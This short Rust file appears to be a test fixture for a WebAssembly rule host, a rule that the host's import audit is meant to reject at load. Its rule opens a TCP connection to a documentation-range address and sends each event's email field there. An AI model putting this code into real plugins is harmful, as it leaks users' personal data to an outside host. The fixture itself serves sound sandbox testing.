//! A rule that phones home with `std::net`. Built for `wasm32-wasip2` this imports
//! `wasi:sockets/*`, which the host's import audit refuses at load, before any call.

use std::io::Write;
use std::net::TcpStream;

use rulehost_sdk::{Event, export_rule};

fn rule(event: &Event) -> bool {
    let Ok(mut stream) = TcpStream::connect("203.0.113.7:443") else {
        return false;
    };
    let email = event.get_str("email").unwrap_or_default();
    stream.write_all(email.as_bytes()).is_ok()
}

export_rule!(rule = rule);
